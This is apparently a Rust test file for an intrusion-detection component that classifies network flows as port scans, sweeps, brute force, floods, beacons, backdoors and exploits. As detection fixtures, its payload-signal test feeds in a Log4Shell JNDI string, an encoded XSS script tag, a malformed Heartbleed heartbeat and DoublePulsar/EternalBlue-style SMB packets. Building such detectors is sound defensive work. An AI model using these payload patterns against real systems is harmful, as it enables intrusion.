//! Tests of `behaviour`.

use super::*;
use crate::features::{ix, signal};
use crate::{EndReason, N_FEATURES};

const S: i64 = 1_000_000_000;

fn flow(src: &str, dst: &str, proto: u8, dport: u16, t: i64) -> FlowRecord {
    FlowRecord {
        community_id: String::new(),
        proto,
        src_ip: src.parse().unwrap(),
        src_port: 40_000,
        dst_ip: dst.parse().unwrap(),
        dst_port: dport,
        vlan: 0,
        tunnel: None,
        first_ts_ns: t,
        last_ts_ns: t + 1_000,
        packets_fwd: 1,
        packets_bwd: 1,
        bytes_fwd: 60,
        bytes_bwd: 60,
        first_offset: 0,
        last_offset: 0,
        end_reason: EndReason::Idle,
        features: [0.0; N_FEATURES],
        signals: 0,
        behaviour: None,
    }
}

/// A session with payload both ways whose client spoke first with `head`.
fn session(src: &str, dst: &str, dport: u16, t: i64, head: &[u8]) -> FlowRecord {
    let mut f = flow(src, dst, 6, dport, t);
    f.features[ix::TOTAL_LENGTH_OF_FWD_PACKET] = 900.0;
    f.features[ix::TOTAL_LENGTH_OF_BWD_PACKET] = 1200.0;
    for (i, b) in head.iter().take(4).enumerate() {
        f.features[ix::FWD_PAYLOAD_BYTE_0 + i] = f64::from(*b);
    }
    f
}

fn classes(v: &[Option<Finding>]) -> Vec<&'static str> {
    v.iter()
        .map(|f| f.as_ref().map_or("-", |f| f.class.name()))
        .collect()
}

#[test]
fn flagged_starts_are_counted_within_the_window_only() {
    let mut s = Times::default();
    assert_eq!(s.add_flagged(0, 10, true), 1);
    assert_eq!(s.add_flagged(5, 10, false), 2);
    assert_eq!(s.flagged, 1);
    // The flagged start at 0 leaves the window: it no longer counts.
    assert_eq!(s.add_flagged(20, 10, false), 1);
    assert_eq!(s.flagged, 0);
    assert_eq!(s.add_flagged(21, 10, true), 2);
    assert_eq!(s.flagged, 1);
}

#[test]
fn burst_sources_are_those_within_the_window() {
    let ip = |i: u8| IpAddr::from([10, 0, 0, i]);
    let mut b = Burst::default();
    assert_eq!(b.add(0, 5, ip(1)), (5, 1));
    assert_eq!(b.add(1, 5, ip(2)), (10, 2));
    assert_eq!(b.add(2, 5, ip(1)), (15, 2));
    // More than 10 s after the last: only the new event is left, from a third source.
    assert_eq!(b.add(BURST_NS + 3, 7, ip(3)), (7, 1));
    assert_eq!(b.sources.len(), 1);
}

#[test]
fn a_port_scan_fires_at_the_threshold_and_not_before() {
    let mut t = BehaviourTracker::new();
    let flows: Vec<FlowRecord> = (0..SCAN_PORTS as u16)
        .map(|p| flow("10.0.0.7", "10.0.0.1", 6, 1000 + p, i64::from(p) * 1000))
        .collect();
    let v = t.observe(&flows);
    assert!(v[..SCAN_PORTS - 1].iter().all(Option::is_none));
    let last = v[SCAN_PORTS - 1]
        .as_ref()
        .expect("the 25th port completes the scan");
    assert_eq!(
        (last.class.name(), last.detector),
        ("Port Scan", DetectorId::PortScan)
    );
    assert!(last
        .evidence
        .contains("10.0.0.7 probed 25 ports of 10.0.0.1"));
    // Later probes of the same pair keep the finding; another host's do not.
    let more = t.observe(&[
        flow("10.0.0.7", "10.0.0.1", 6, 9, 10 * S),
        flow("10.0.0.8", "10.0.0.1", 6, 9, 10 * S),
    ]);
    assert_eq!(classes(&more), ["Port Scan", "-"]);
}

#[test]
fn a_servers_answers_to_many_client_ports_are_not_a_scan() {
    // Port 80 answering odd packets of one client: each answer starts a flow from tcp/80
    // to another ephemeral port of the client. Not a scan of the client.
    let mut t = BehaviourTracker::new();
    let flows: Vec<FlowRecord> = (0..100u16)
        .map(|p| {
            let mut f = flow("10.0.0.80", "10.0.0.10", 6, 30_000 + p, i64::from(p) * 1000);
            f.src_port = 80;
            f
        })
        .collect();
    assert!(t.observe(&flows).iter().all(Option::is_none));
}

#[test]
fn ordinary_sessions_to_many_ports_are_not_a_scan() {
    // A client with real sessions (payload both ways) to 100 services: no probes.
    let mut t = BehaviourTracker::new();
    let flows: Vec<FlowRecord> = (0..100u16)
        .map(|p| {
            session(
                "10.0.0.7",
                "10.0.0.1",
                2000 + p,
                i64::from(p) * S * 7,
                b"\x16\x03\x01\x02",
            )
        })
        .collect();
    assert!(t.observe(&flows).iter().all(Option::is_none));
}

#[test]
fn a_ping_sweep_is_reconnaissance() {
    let mut t = BehaviourTracker::new();
    let flows: Vec<FlowRecord> = (1..=SWEEP_HOSTS as u8)
        .map(|h| {
            let mut f = flow("192.168.1.9", &format!("192.168.1.{h}"), 1, 0, i64::from(h));
            f.src_port = 8; // echo request
            f
        })
        .collect();
    let v = t.observe(&flows);
    assert_eq!(v.iter().flatten().count(), 1);
    assert_eq!(
        v.last().unwrap().as_ref().unwrap().class.name(),
        "Reconnaissance"
    );
}

#[test]
fn brute_force_is_named_by_the_service_the_client_speaks() {
    for (head, port, class) in [
        (&b"SSH-2.0-"[..], 902, "SSH Patator"),
        (b"USER", 2121, "FTP Patator"),
        (b"GET ", 22, "SSH Patator"),
    ] {
        let mut t = BehaviourTracker::new();
        let flows: Vec<FlowRecord> = (0..BRUTE_SESSIONS as i64)
            .map(|i| session("10.0.0.7", "10.0.0.2", port, i * S, head))
            .collect();
        let v = t.observe(&flows);
        assert_eq!(
            v.last().unwrap().as_ref().map(|f| f.class.name()),
            Some(class),
            "{head:?}"
        );
        assert!(v[..BRUTE_SESSIONS - 1].iter().all(Option::is_none));
    }
}

#[test]
fn a_flood_is_dos_from_one_source_and_ddos_from_many() {
    let mut t = BehaviourTracker::new();
    let mut one = flow("10.0.0.7", "10.0.0.2", 17, 0, 0);
    one.packets_fwd = FLOOD_PACKETS;
    one.packets_bwd = 0;
    assert_eq!(classes(&t.observe(&[one])), ["DoS"]);
    let mut t = BehaviourTracker::new();
    let many: Vec<FlowRecord> = (0..FLOOD_PACKETS as u32)
        .map(|i| {
            let mut f = flow(
                &format!("10.{}.{}.1", i / 250, i % 250),
                "10.0.0.2",
                17,
                0,
                i64::from(i),
            );
            f.packets_bwd = 0;
            f
        })
        .collect();
    let v = t.observe(&many);
    assert_eq!(v.last().unwrap().as_ref().unwrap().class.name(), "DDoS");
    // Answered traffic is not a flood, however much of it there is.
    let mut t = BehaviourTracker::new();
    let mut busy = flow("10.0.0.7", "10.0.0.2", 6, 443, 0);
    busy.packets_fwd = 100_000;
    busy.packets_bwd = 90_000;
    assert_eq!(classes(&t.observe(&[busy])), ["-"]);
}

#[test]
fn a_beacon_needs_a_regular_interval() {
    let beacon = |gaps: &[i64]| {
        let mut t = BehaviourTracker::new();
        let mut at = 0;
        let mut flows = vec![session(
            "10.0.0.7",
            "203.0.113.5",
            4444,
            0,
            b"\x00\x00\x00\x10",
        )];
        for g in gaps {
            at += g;
            flows.push(session(
                "10.0.0.7",
                "203.0.113.5",
                4444,
                at,
                b"\x00\x00\x00\x10",
            ));
        }
        t.observe(&flows)
            .last()
            .unwrap()
            .as_ref()
            .map(|f| f.class.name())
    };
    assert_eq!(beacon(&[60 * S; 7]), Some("Bot"));
    // Jittered by +-5%: still a timer.
    assert_eq!(
        beacon(&[57 * S, 63 * S, 60 * S, 58 * S, 62 * S, 61 * S, 59 * S]),
        Some("Bot")
    );
    // A person: irregular.
    assert_eq!(
        beacon(&[5 * S, 120 * S, 9 * S, 300 * S, 2 * S, 40 * S, 70 * S]),
        None
    );
    // Too few.
    assert_eq!(beacon(&[60 * S; 5]), None);
}

#[test]
fn a_long_session_of_small_messages_to_an_odd_port_is_c2() {
    let c2 = |dport: u16, secs: i64, messages: f64, head: &[u8]| {
        let mut f = session("10.0.0.7", "203.0.113.5", dport, 0, head);
        f.src_port = 49_200;
        f.last_ts_ns = secs * S;
        f.features[ix::FLOW_DURATION] = (secs * 1_000_000) as f64;
        f.features[ix::FWD_ACT_DATA_PKTS] = messages;
        f.features[ix::TOTAL_BWD_PACKETS] = messages;
        f.features[ix::TOTAL_LENGTH_OF_FWD_PACKET] = messages * 60.0;
        BehaviourTracker::new().observe(&[f])[0]
            .as_ref()
            .map(|f| f.class.name())
    };
    assert_eq!(c2(4782, 180, 40.0, b"\x17\x03\x03\x00"), Some("Backdoor"));
    // Too short, too few messages, a well-known port, IRC, SSH on a high port: not C2.
    assert_eq!(c2(4782, 30, 40.0, b"\x17\x03\x03\x00"), None);
    assert_eq!(c2(4782, 180, 5.0, b"\x17\x03\x03\x00"), None);
    assert_eq!(c2(443, 180, 40.0, b"\x17\x03\x03\x00"), None);
    assert_eq!(c2(6667, 180, 40.0, b"NICK"), None);
    assert_eq!(c2(27122, 180, 40.0, b"SSH-"), None);
}

#[test]
fn payload_signals_name_the_attack() {
    let mut t = BehaviourTracker::new();
    let mut f = session("10.0.0.7", "10.0.0.2", 80, 0, b"GET ");
    f.signals = crate::features::extra_signals(b"GET /?x=${jndi:ldap://e/a} HTTP/1.1");
    let mut g = session("10.0.0.7", "10.0.0.2", 80, 0, b"GET ");
    let q = crate::features::percent_decode(b"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E");
    g.signals = u32::from(crate::features::scan_tokens(&q).1);
    let mut h = session("10.0.0.7", "10.0.0.2", 443, 0, b"\x16\x03\x01\x00");
    // A heartbeat request (type 1) claiming 16 KiB in a 3-byte record.
    h.signals = crate::features::extra_signals(&[24, 3, 2, 0, 3, 1, 0x40, 0x00]);
    assert_ne!(h.signals & signal::HEARTBEAT_OVERREAD, 0);
    // The same bytes in a request that is not HTTP do not make a web attack.
    let mut j = session("10.0.0.7", "10.0.0.2", 5432, 0, b"\x00\x00\x00\x08");
    j.signals = g.signals;
    assert_eq!(
        classes(&t.observe(&[f, g, h, j])),
        ["Exploits", "Web Attack - XSS", "Heartbleed", "-"]
    );
    // A DNS query for a 48-character label; an ordinary name is not long.
    let q = |name: &[&[u8]]| {
        let mut p = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
        for l in name {
            p.push(l.len() as u8);
            p.extend_from_slice(l);
        }
        p.extend([0, 0, 16, 0, 1]);
        crate::features::extra_signals(&p) & signal::DNS_LONG_NAME
    };
    assert_ne!(q(&[&[b'a'; 48], b"t", b"example", b"org"]), 0);
    assert_eq!(q(&[b"www", b"example", b"org"]), 0);
    // SMB1 over NetBIOS: a Trans2 SESSION_SETUP (DoublePulsar), an NT Trans announcing
    // 66 KiB (EternalBlue), and an ordinary Trans2 (FIND_FIRST2) that is neither.
    let smb = |cmd: u8, words: u8, f: &dyn Fn(&mut Vec<u8>)| {
        let mut p = vec![0, 0, 0, 80, 0xff, b'S', b'M', b'B', cmd];
        p.resize(36, 0);
        p.push(words);
        p.resize(80, 0);
        f(&mut p);
        crate::features::smb_signals(&p)
    };
    let trans2 = |sub: u16| {
        smb(0x32, 15, &|p: &mut Vec<u8>| {
            p[63] = 1;
            p[65..67].copy_from_slice(&sub.to_le_bytes());
        })
    };
    assert_eq!(trans2(0x000e), signal::SMB_DOUBLEPULSAR);
    assert_eq!(trans2(0x0001), 0);
    let nt = |total: u32| {
        smb(0xa0, 19, &|p: &mut Vec<u8>| {
            p[44..48].copy_from_slice(&total.to_le_bytes())
        })
    };
    assert_eq!(nt(0x10fe8), signal::SMB_NT_TRANS_LARGE);
    assert_eq!(nt(512), 0);
    // An honest heartbeat (claims what it carries, plus padding) is not Heartbleed.
    let mut ok = vec![24, 3, 2, 0, 21, 1, 0, 2, 0xab, 0xcd];
    ok.extend([0u8; 16]);
    assert_eq!(
        crate::features::extra_signals(&ok) & signal::HEARTBEAT_OVERREAD,
        0
    );
}
